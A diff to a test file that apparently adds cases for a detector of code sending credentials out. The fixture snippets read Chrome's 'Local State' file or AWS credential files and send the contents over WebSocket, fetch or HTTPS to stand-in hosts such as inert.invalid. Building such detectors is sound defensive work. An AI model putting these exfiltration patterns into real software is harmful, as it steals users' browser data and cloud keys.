@@ -4,6 +4,44 @@ import { sendsCredentials } from './sends-credentials.ts';
 examine(sendsCredentials, {
   speaks: [
     {
+      when: 'another file talks about what it reads to a program whose address it is told',
+      files: {
+        'index.js': `const { kept } = require('./kept'); const WS = require('ws'); exports.look = url => { const ws = new WS(url); ws.on('open', () => ws.send(JSON.stringify({ id: 1, params: JSON.parse(kept()).proxy }))); };`,
+        'kept.js': `exports.kept = () => require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Local State', 'utf8');`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'another file sends what it reads to a host of its own',
+      files: {
+        'index.js': `const { kept } = require('./kept'); const WS = require('ws'); exports.look = () => { const ws = new WS('wss://inert.invalid'); ws.on('open', () => ws.send(JSON.stringify({ id: 1, params: kept() }))); };`,
+        'kept.js': `exports.kept = () => require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Local State', 'utf8');`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'another file does so as soon as it is imported, wherever to',
+      files: {
+        'index.js': `const { kept } = require('./kept'); fetch(globalThis.where(), { method: 'POST', body: kept() });`,
+        'kept.js': `exports.kept = () => require('fs').readFileSync(require('os').homedir() + '/.config/google-chrome/Local State', 'utf8');`,
+      },
+      weight: 'proof',
+    },
+    {
+      when: 'an address that stands in the profile of a browser is asked',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.proxy = () => { const kept = JSON.parse(fs.readFileSync(os.homedir() + '/.config/google-chrome/Local State', 'utf8')); https.get(kept.proxy.pac_url, r => r.resume()); };`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'what stands there is put behind an address of its own',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), https = require('https'); exports.proxy = () => { const kept = fs.readFileSync(os.homedir() + '/.config/google-chrome/Local State', 'utf8'); https.get('https://inert.invalid/?' + kept, r => r.resume()); };`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a request that is signed has the keys of a cloud in it',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), aws4 = require('aws4'); const keys = () => { const raw = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8'); return { accessKeyId: /id=(.*)/.exec(raw)[1], secretAccessKey: /key=(.*)/.exec(raw)[1] }; }; exports.where = bucket => { const opts = aws4.sign({ service: 's3', method: 'PUT', host: 'inert.invalid', path: '/' + bucket, body: JSON.stringify(keys()) }, keys()); https.request({ hostname: opts.host, path: opts.path, method: opts.method, headers: opts.headers }).end(opts.body); };`,
